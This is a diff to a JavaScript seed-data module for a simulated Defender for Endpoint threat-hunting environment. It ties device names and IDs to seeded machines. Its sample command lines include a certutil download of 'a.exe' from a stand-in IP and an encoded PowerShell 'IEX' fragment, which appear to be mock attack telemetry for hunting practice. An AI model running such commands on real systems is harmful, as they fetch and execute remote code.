@@ -8,10 +8,13 @@
  */
 
 const { hash32 } = require('../util');
+const { SEED_DEVICES } = require('../mde/machines');
 
 const DAY = 24 * 3600 * 1000;
-const DEVICES = Array.from({ length: 40 }, (_, i) => `ws-${String(i + 1).padStart(3, '0')}.contoso.local`);
-const DEVICE_IDS = DEVICES.map((_, d) => hash32(d + 1).toString(16).padStart(8, '0') + 'a1b2c3d4e5f6a7b8c9d0e1f2a3b4c5d6');
+// the devices of the Device* tables are the seeded Defender for Endpoint machines: a hunt's DeviceId is what
+// the device actions take (hunt, then isolate)
+const DEVICES = SEED_DEVICES.map((device) => device.computerDnsName);
+const DEVICE_IDS = SEED_DEVICES.map((device) => device.id);
 const USERS = ['kai.carter', 'alex.wilber', 'megan.bowen', 'adele.vance', 'lee.gu', 'nestor.wilke', 'diego.siciliani', 'svc-backup'];
 const PROCS = ['powershell.exe', 'cmd.exe', 'rundll32.exe', 'svchost.exe', 'explorer.exe', 'chrome.exe', 'winword.exe', 'certutil.exe', 'msedge.exe', 'regsvr32.exe'];
 const CMDS = ['-enc SQBFAFgA', '/c whoami', 'shell32.dll,Control_RunDLL', '-k netsvcs', '', '--type=renderer', '/n report.docx', '-urlcache -f http://198.51.100.7/a.exe', '--profile-directory=Default', '/s scrobj.dll'];
